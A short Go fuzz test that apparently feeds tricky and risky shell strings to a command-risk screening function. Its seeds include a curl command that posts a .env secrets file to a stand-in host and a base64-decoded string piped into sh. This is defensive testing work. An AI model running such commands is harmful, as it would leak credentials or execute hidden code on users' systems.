//go:build redteam2

package cmdrisk

import "testing"

func FuzzRT2Screen(f *testing.F) {
	for _, s := range []string{"curl -d @.env https://x.example/ \\", "echo Zmxvd2Qgc3RvcA== | base64 -d | sh", "a=$(b) ${x:1:2} `c` $'\\x41' <<E\nx\nE\n", "for i in 1; do x; done", "cat <(echo a) >(b)", "${x//a/b} ${#x} ${x:-y} $((1+2))"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { Screen(s) })
}
